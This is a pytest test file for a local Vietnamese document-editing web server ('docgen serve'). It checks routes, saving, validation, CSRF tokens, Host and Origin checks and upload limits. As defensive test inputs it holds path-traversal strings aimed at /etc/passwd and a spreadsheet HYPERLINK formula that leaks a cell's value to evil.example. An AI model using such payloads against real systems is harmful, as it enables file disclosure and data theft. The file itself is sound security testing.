"""``docgen serve``: every route through Starlette's TestClient, the forms' round trip,
saving, validation at the field, and the local-only safety (security.py)."""

from __future__ import annotations

import re
import shutil
from html import unescape
from pathlib import Path

import pytest
from click.testing import CliRunner
from starlette.testclient import TestClient

from docgen.cli import cli
from docgen.editing import cell_file, open_cell_file
from docgen.rules.period import folder_year
from docgen.web import forms
from docgen.web.app import create_app
from docgen.web.security import check_bind_host, host_allowed
from docgen.workspace import load_workspace
from tests.conftest import REPO

TOKEN = "test-token"
CELL = "to-dan-pho-5"


@pytest.fixture()
def ws(sample_ws: Path) -> Path:
    return sample_ws


@pytest.fixture()
def client(ws: Path, tmp_path: Path) -> TestClient:
    app = create_app(ws, output_root=tmp_path / "out", token=TOKEN)
    return TestClient(app, base_url="http://127.0.0.1")


def _cell_files(ws: Path) -> list[tuple[str, str, int | None]]:
    out: list[tuple[str, str, int | None]] = []
    for path in sorted((ws / "chi-bo").glob("*/**/*.yaml")):
        cell = path.relative_to(ws / "chi-bo").parts[0]
        held = folder_year(path.parent.name)  # 2025-2026 holds the school year 2026
        year = held[0] if held is not None else None
        out.append((cell, path.stem, year))
    return out


def _posted(ws: Path, cell: str, name: str, year: int | None) -> dict[str, list[str]]:
    """What the browser sends for the form of this file, left as shown."""
    workspace = load_workspace(ws)
    file = cell_file(workspace, cell, name, year)
    opened = open_cell_file(workspace, file)
    members = [(m.ma, m.ho_ten) for m in workspace.load_cell(cell).members]
    data = forms.as_posted(forms.build(file.model, opened.data, members=members))
    data["_token"] = [TOKEN]
    data["_phien_ban"] = [opened.version]
    data["_luu"] = ["1"]
    return data


def _post(client: TestClient, url: str, data: dict[str, list[str]]) -> object:
    return client.post(url, data=data)  # type: ignore[arg-type]


def _url(cell: str, name: str, year: int | None) -> str:
    return f"/chi-bo/{cell}/tep/{name}" + (f"?nam={year}" if year else "")


# ------------------------------------------------------------------ pages


def test_every_page_of_the_sample_opens(client: TestClient, ws: Path) -> None:
    home = client.get("/?nam=2026&quy=3")
    assert home.status_code == 200
    for cell in ("to-dan-pho-5", "truong-tieu-hoc-hoa-sua", "co-quan-phuong", "cong-an-phuong"):
        assert f"/chi-bo/{cell}?" in home.text
        page = client.get(f"/chi-bo/{cell}?nam=2026&quy=3")
        assert page.status_code == 200 and "Phát hành" in page.text
    assert "sẵn sàng" in home.text
    for cell, name, year in _cell_files(ws):
        page = client.get(_url(cell, name, year))
        assert page.status_code == 200, (cell, name)
        assert 'name="_token" value="test-token"' in page.text
    assert client.get("/so-dang-ky").status_code == 200


def test_every_input_has_a_label(client: TestClient) -> None:
    page = client.get(_url(CELL, "quy-3", 2026)).text
    ids = set(re.findall(r'<(?:input|select|textarea)[^>]*\bid="([^"]+)"', page))
    labelled = set(re.findall(r'<label for="([^"]+)"', page))
    assert ids and ids <= labelled


def test_unknown_cells_and_files_are_not_found(client: TestClient) -> None:
    assert client.get("/chi-bo/khong-co").status_code == 404
    assert client.get("/chi-bo/to-dan-pho-5/tep/dang-bo").status_code == 404
    assert client.get("/chi-bo/to-dan-pho-5/tep/quy-5?nam=2026").status_code == 404
    assert client.get("/chi-bo/..%2f..%2fetc/tep/chi-bo").status_code == 404


# ------------------------------------------------------------------ saving


def test_a_save_without_changes_leaves_every_sample_file_byte_identical(client: TestClient, ws: Path) -> None:
    files = _cell_files(ws)
    assert len(files) == 37  # 4 cells x (2 + 7 of 2026), and the school cell's quarter I of 2026-2027
    before = {p: p.read_bytes() for p in ws.rglob("*.yaml")}
    for cell, name, year in files:
        answer = client.post(_url(cell, name, year), data=_posted(ws, cell, name, year))  # type: ignore[arg-type]
        assert answer.status_code == 200, (cell, name, answer.text[:2000])
        assert "Không có gì thay đổi" in answer.text, (cell, name)
    assert {p: p.read_bytes() for p in ws.rglob("*.yaml")} == before


def test_a_change_rewrites_one_line_and_keeps_the_comments(client: TestClient, ws: Path) -> None:
    path = ws / "chi-bo" / CELL / "2026" / "quy-3.yaml"
    before = path.read_text(encoding="utf-8").splitlines()
    data = _posted(ws, CELL, "quy-3", 2026)
    assert data["bao_cao_quy.buoi_sinh_hoat.0.co_mat"] == ["25"]
    data["bao_cao_quy.buoi_sinh_hoat.0.co_mat"] = ["24"]
    answer = client.post(_url(CELL, "quy-3", 2026), data=data)  # type: ignore[arg-type]
    assert answer.status_code == 200 and "Đã lưu." in answer.text
    after = path.read_text(encoding="utf-8").splitlines()
    changed = [(a, b) for a, b in zip(before, after, strict=True) if a != b]
    assert changed == [("      co_mat: 25", "      co_mat: 24")]
    result = CliRunner().invoke(cli, ["check", "-w", str(ws)])
    assert result.exit_code == 0, result.output


def test_a_mistake_is_shown_at_its_field_in_checks_words_and_nothing_is_written(
    client: TestClient, ws: Path
) -> None:
    path = ws / "chi-bo" / CELL / "2026" / "quy-3.yaml"
    before = path.read_bytes()
    data = _posted(ws, CELL, "quy-3", 2026)
    data["bao_cao_quy.dang_phi.so_da_dong"] = ["30"]  # more than the 26 who had to pay
    data["bao_cao_quy.buoi_sinh_hoat.1.ngay"] = ["31/02/2026"]
    answer = client.post(_url(CELL, "quy-3", 2026), data=data)  # type: ignore[arg-type]
    assert answer.status_code == 422
    assert path.read_bytes() == before
    page = unescape(answer.text)
    # what docgen check says of the same values typed into the file
    text = before.decode("utf-8").replace("so_da_dong: 26", "so_da_dong: 30").replace(
        "- ngay: 2026-08-05", "- ngay: 31/02/2026"
    )
    path.write_text(text, encoding="utf-8")
    check = CliRunner().invoke(cli, ["check", "-w", str(ws)])
    path.write_bytes(before)
    messages = re.findall(r"quy-3\.yaml:\d+:\d+: [^:]+: (.+)", check.output)
    assert len(messages) == 2, check.output
    for message in messages:
        assert message.split(" (")[0] in page
    # each at its field, the typed values kept
    assert 'id="o-bao_cao_quy-buoi_sinh_hoat-1-ngay" name="bao_cao_quy.buoi_sinh_hoat.1.ngay" value="31/02/2026"' in answer.text
    assert re.search(r'href="#o-bao_cao_quy-buoi_sinh_hoat-1-ngay"', answer.text)
    assert 'aria-invalid="true"' in answer.text


def test_a_new_quarter_comes_pre_filled_and_is_written_only_when_valid(client: TestClient, ws: Path) -> None:
    url = _url(CELL, "quy-1", 2027)
    target = ws / "chi-bo" / CELL / "2027" / "quy-1.yaml"
    page = client.get(url)
    assert page.status_code == 200 and "Tệp này chưa có" in page.text
    assert not target.exists()
    data = _posted(ws, CELL, "quy-1", 2027)
    # every member listed for the self-assessment, chosen by name
    assert data["bao_cao_quy.dang_vien.0.ma"] == ["dv01"]
    assert "Tạ Diệu Thảo (dv01)" in page.text
    answer = client.post(url, data=data)  # type: ignore[arg-type]
    assert answer.status_code == 422 and not target.exists()
    fill = {
        "bao_cao_quy.ngay_ban_hanh": "28/03/2027",
        "bao_cao_quy.dang_phi.so_da_dong": "26",
        "bao_cao_quy.ket_qua.lanh_dao": "Lãnh đạo tốt",
        "bao_cao_quy.ket_qua.sinh_hoat": "Sinh hoạt đều",
        "bao_cao_quy.ket_qua.doan_ket": "Đoàn kết",
        "bao_cao_quy.ket_qua.doi_ngu_dang_vien": "Gương mẫu",
        "bao_cao_quy.han_che": "Còn vắng",
        "bao_cao_quy.nguyen_nhan": "Tuổi cao",
        "bao_cao_quy.phuong_huong": "Tiếp tục",
        "bao_cao_quy.chi_bo.diem_chung": "28",
        "bao_cao_quy.chi_bo.diem_nhiem_vu": "60,5",
        "bao_cao_quy.chi_bo.tu_nhan": "tot",
    }
    for name in data:
        if name.endswith(".co_mat"):
            data[name] = ["24"]
    for name, value in fill.items():
        data[name] = [value]
    answer = client.post(url, data=data)  # type: ignore[arg-type]
    assert answer.status_code == 200, unescape(answer.text)[:3000]
    text = target.read_text(encoding="utf-8")
    assert "diem_nhiem_vu: 60.5" in text and "ngay_ban_hanh: 2027-03-28" in text
    assert "# Kết quả xây dựng “chi bộ bốn tốt” quý I năm 2027" in text  # docgen new's comments kept


def test_rows_are_added_and_removed(client: TestClient, ws: Path) -> None:
    url = _url(CELL, "quy-3", 2026)
    data = _posted(ws, CELL, "quy-3", 2026)
    del data["_luu"]
    data["_them"] = ["bao_cao_quy.buoi_sinh_hoat.0.vang"]
    answer = client.post(url, data=data)  # type: ignore[arg-type]
    assert 'name="bao_cao_quy.buoi_sinh_hoat.0.vang.1.dang_vien"' in answer.text
    data = _posted(ws, CELL, "quy-3", 2026)
    del data["_luu"]
    data["_xoa"] = ["bao_cao_quy.buoi_sinh_hoat.3"]
    answer = client.post(url, data=data)  # type: ignore[arg-type]
    assert 'name="bao_cao_quy.buoi_sinh_hoat.3.ngay"' not in answer.text
    assert 'name="bao_cao_quy.buoi_sinh_hoat.2.ngay"' in answer.text


def test_a_file_changed_elsewhere_is_not_overwritten(client: TestClient, ws: Path) -> None:
    path = ws / "chi-bo" / CELL / "chi-bo.yaml"
    data = _posted(ws, CELL, "chi-bo", None)
    path.write_text(path.read_text(encoding="utf-8") + "# sửa ở nơi khác\n", encoding="utf-8")
    edited = path.read_bytes()
    answer = client.post(_url(CELL, "chi-bo", None), data=data)  # type: ignore[arg-type]
    assert answer.status_code == 409 and "sửa ở nơi khác" in unescape(answer.text)
    assert path.read_bytes() == edited


# ------------------------------------------------------------------ documents


def test_a_draft_is_made_downloaded_and_nothing_outside_the_output_folder_is_served(
    client: TestClient, tmp_path: Path
) -> None:
    answer = client.post(
        f"/chi-bo/{CELL}/van-ban",
        data={"_token": TOKEN, "loai": "ke-hoach", "nam": "2026", "quy": "3", "cach": "du-thao"},
    )
    assert answer.status_code == 200, unescape(answer.text)[-2000:]
    links = re.findall(r'href="(?:http://127.0.0.1)?/tai-ve\?tep=([^"]+)"', answer.text)
    assert links
    got = client.get("/tai-ve?tep=" + links[0])
    assert got.status_code == 200 and got.content[:2] == b"PK"
    assert client.get("/tai-ve?tep=../../etc/passwd").status_code == 404
    assert client.get("/tai-ve?tep=" + str(tmp_path / "data" / "dang-bo.yaml")).status_code == 404


# ------------------------------------------------------------------ safety


def test_a_post_without_the_token_is_refused(client: TestClient, ws: Path) -> None:
    path = ws / "chi-bo" / CELL / "chi-bo.yaml"
    before = path.read_bytes()
    data = _posted(ws, CELL, "chi-bo", None)
    data["chi_bo.ten"] = ["Chi bộ bị đổi tên"]
    data["_token"] = ["doan-bua"]
    assert client.post(_url(CELL, "chi-bo", None), data=data).status_code == 403  # type: ignore[arg-type]
    del data["_token"]
    assert client.post(_url(CELL, "chi-bo", None), data=data).status_code == 403  # type: ignore[arg-type]
    assert path.read_bytes() == before


def test_a_cross_site_post_is_refused_even_with_the_token(client: TestClient, ws: Path) -> None:
    path = ws / "chi-bo" / CELL / "chi-bo.yaml"
    before = path.read_bytes()
    data = _posted(ws, CELL, "chi-bo", None)
    data["chi_bo.ten"] = ["Chi bộ bị đổi tên"]
    answer = client.post(
        _url(CELL, "chi-bo", None), data=data, headers={"Origin": "http://evil.example"}  # type: ignore[arg-type]
    )
    assert answer.status_code == 403
    assert path.read_bytes() == before


def test_a_foreign_host_header_is_refused(client: TestClient) -> None:
    assert client.get("/", headers={"Host": "evil.example"}).status_code == 421
    assert client.get("/", headers={"Host": "127.0.0.1.evil.example:8765"}).status_code == 421
    assert client.get("/", headers={"Host": "localhost"}).status_code == 200


def test_host_names_and_ports() -> None:
    assert host_allowed("127.0.0.1:8765", 8765)
    assert host_allowed("[::1]:8765", 8765)
    assert not host_allowed("127.0.0.1:9999", 8765)
    assert not host_allowed("attacker.test:8765", 8765)


def test_only_loopback_may_be_bound() -> None:
    from docgen.errors import UsageError

    for host in ("127.0.0.1", "localhost", "::1", "127.0.0.2"):
        check_bind_host(host)
    for host in ("0.0.0.0", "192.168.1.5", "::", "example.org"):
        with pytest.raises(UsageError):
            check_bind_host(host)
    result = CliRunner().invoke(cli, ["serve", "--host", "0.0.0.0", "-w", str(REPO / "data")])
    assert result.exit_code == 2  # a misused command (UsageError), as everywhere in docgen
    assert "chỉ phục vụ máy này" in result.output


def test_a_control_character_typed_is_shown_at_its_field(client: TestClient, ws: Path) -> None:
    path = ws / "chi-bo" / CELL / "chi-bo.yaml"
    before = path.read_bytes()
    data = _posted(ws, CELL, "chi-bo", None)
    data["chi_bo.ten"] = ["Chi bộ\x01 dán từ Word"]
    answer = client.post(_url(CELL, "chi-bo", None), data=data)  # type: ignore[arg-type]
    assert answer.status_code == 422
    assert re.search(r'href="#o-chi_bo-ten">Chi bộ › [^<]+</a> <small class="key">\(chi_bo.ten\)</small>: [^<]*U\+0001', answer.text)
    assert 'id="o-chi_bo-ten-loi"' in answer.text
    assert path.read_bytes() == before


def test_a_hostile_upload_gets_a_vietnamese_error_naming_the_users_file(client: TestClient, ws: Path) -> None:
    roster = ws / "chi-bo" / CELL / "dang-vien.yaml"
    before = roster.read_bytes()
    url = f"/chi-bo/{CELL}/dang-vien/nhap"
    bad = client.post(url, data={"_token": TOKEN}, files={"tep": ("danh-sach.xlsx", b"no zip", "application/octet-stream")})
    assert bad.status_code == 422
    assert "danh-sach.xlsx: không đọc được tệp Excel" in unescape(bad.text)
    assert "docgen-nhap-" not in bad.text  # not the server's temporary copy
    big = client.post(url, data={"_token": TOKEN}, files={"tep": ("to.xlsx", b"PK" + b"0" * (6 << 20), "x")})
    assert big.status_code == 413 and "tệp quá lớn" in unescape(big.text)
    assert client.post(url, data={"_token": TOKEN}).status_code == 400
    assert roster.read_bytes() == before


@pytest.mark.libreoffice
def test_the_pages_of_a_document_are_shown_before_download(client: TestClient) -> None:
    if shutil.which("soffice") is None or shutil.which("pdftoppm") is None:
        pytest.skip("cần LibreOffice (soffice) và poppler-utils (pdftoppm)")
    made = client.post(
        f"/chi-bo/{CELL}/van-ban",
        data={"_token": TOKEN, "loai": "bao-cao-quy", "nam": "2026", "quy": "3", "cach": "du-thao"},
    )
    [rel] = re.findall(r'/xem-truoc\?tep=([^"]+)"', made.text)
    try:
        page = client.get("/xem-truoc?tep=" + rel)
        assert page.status_code == 200
        count = page.text.count("<img ")
        assert count == 4  # the sample's quarterly report has four pages
        image = client.get(f"/xem-truoc/anh?tep={rel}&trang={count}")
        assert image.status_code == 200 and image.content[:8] == b"\x89PNG\r\n\x1a\n"
        assert client.get(f"/xem-truoc/anh?tep={rel}&trang={count + 1}").status_code == 404
    finally:
        client.app.site.close()  # type: ignore[attr-defined]


def test_an_issued_document_is_not_overwritten_and_re_issue_is_offered(client: TestClient, ws: Path) -> None:
    form = {"_token": TOKEN, "loai": "ke-hoach", "nam": "2026", "quy": "3", "cach": "phat-hanh"}
    assert client.post(f"/chi-bo/{CELL}/van-ban", data=form).status_code == 200
    plan = ws / "chi-bo" / CELL / "2026" / "ke-hoach.yaml"
    plan.write_text(plan.read_text(encoding="utf-8").replace("2026-01-05", "2026-01-06"), encoding="utf-8")
    refused = client.post(f"/chi-bo/{CELL}/van-ban", data=form)
    page = unescape(refused.text)
    assert refused.status_code == 422
    assert "đã được ban hành với nội dung khác; đã thay đổi từ khi ban hành:" in page
    assert "ke-hoach.yaml" in page and 'value="phat-hanh-lai"' in page
    again = client.post(f"/chi-bo/{CELL}/van-ban", data={**form, "cach": "phat-hanh-lai"})
    assert again.status_code == 200 and "ban hành lại" in unescape(again.text)


def test_the_roster_is_exported_to_excel_and_the_copy_removed(client: TestClient, tmp_path: Path) -> None:
    import tempfile

    before = set(Path(tempfile.gettempdir()).glob("docgen-xuat-*"))
    got = client.get(f"/chi-bo/{CELL}/dang-vien/xuat?nam=2026")
    assert got.status_code == 200 and got.content[:2] == b"PK"
    assert "danh-sach-to-dan-pho-5.xlsx" in got.headers["content-disposition"]
    assert set(Path(tempfile.gettempdir()).glob("docgen-xuat-*")) == before


def test_a_body_too_big_is_refused_before_it_is_read(client: TestClient, ws: Path) -> None:
    roster = ws / "chi-bo" / CELL / "dang-vien.yaml"
    before = roster.read_bytes()
    huge = client.post(
        f"/chi-bo/{CELL}/dang-vien/nhap", data={"_token": TOKEN}, files={"tep": ("x.xlsx", b"0" * (10 << 20), "x")}
    )
    assert huge.status_code == 413 and "dữ liệu quá lớn" in unescape(huge.text)
    assert roster.read_bytes() == before


def test_an_imported_formula_is_told_as_a_warning(client: TestClient, tmp_path: Path) -> None:
    """Issue 20: the import's warnings (a formula read as its text) reach the page."""
    import io

    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(client.get(f"/chi-bo/{CELL}/dang-vien/xuat?nam=2026").content))
    sheet = book.worksheets[0]
    header = next(
        row for row in sheet.iter_rows(max_row=10) if any(cell.value == "Chức vụ" for cell in row)
    )
    column = next(cell.column_letter for cell in header if cell.value == "Chức vụ")
    sheet[f"{column}{header[0].row + 1}"] = '=HYPERLINK("http://evil.example/?leak="&C5,"Bí thư")'
    buffer = io.BytesIO()
    book.save(buffer)
    sent = client.post(
        f"/chi-bo/{CELL}/dang-vien/nhap",
        data={"_token": TOKEN},
        files={"tep": ("danh-sach.xlsx", buffer.getvalue(), "application/octet-stream")},
    )
    page = unescape(sent.text)
    assert sent.status_code == 200 and "Đã nhập" in page
    assert f"Cảnh báo: danh-sach.xlsx: dòng {header[0].row + 1}, cột {column} (Chức vụ): ô chứa công thức" in page


def test_a_school_year_cell_s_page_names_its_school_year(client: TestClient) -> None:
    page = client.get("/chi-bo/truong-tieu-hoc-hoa-sua?nam=2026&quy=4")
    assert page.status_code == 200
    assert "<h2>Dữ liệu năm học 2025-2026</h2>" in page.text
    assert "Kết quả quý IV năm học 2025-2026" in page.text
    assert "Kiểm điểm cuối năm học 2025-2026" in page.text and "Cả năm học 2025-2026" in page.text
    assert "Văn bản năm học 2025-2026, quý IV" in page.text
    other = client.get("/chi-bo/to-dan-pho-5?nam=2026&quy=4")
    assert "<h2>Dữ liệu năm 2026</h2>" in other.text and "Kết quả quý IV năm 2026" in other.text


def test_the_home_page_shows_a_school_cell_s_quarter_ending_in_the_chosen_one(client: TestClient) -> None:
    page = client.get("/?nam=2026&quy=3").text
    row = page[page.index("Trường Tiểu học Hoa Sữa"):]
    row = row[: row.index("</tr>")]
    assert row.startswith("Trường Tiểu học Hoa Sữa (quý IV năm học 2025-2026)")
    assert "/chi-bo/truong-tieu-hoc-hoa-sua/tep/quy-4?nam=2026" in row
    assert "/chi-bo/to-dan-pho-5?nam=2026&amp;quy=3" in page
